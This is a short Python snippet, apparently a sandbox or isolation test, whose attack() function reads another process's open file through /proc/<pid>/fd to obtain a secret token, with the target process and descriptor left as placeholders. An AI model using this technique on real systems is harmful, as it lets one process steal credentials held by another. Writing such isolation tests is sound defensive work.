"""Open what another process has open, by /proc. Success: the token."""


def attack():
    return open(f"/proc/{VICTIM}/fd/{DESCRIPTOR}").read()
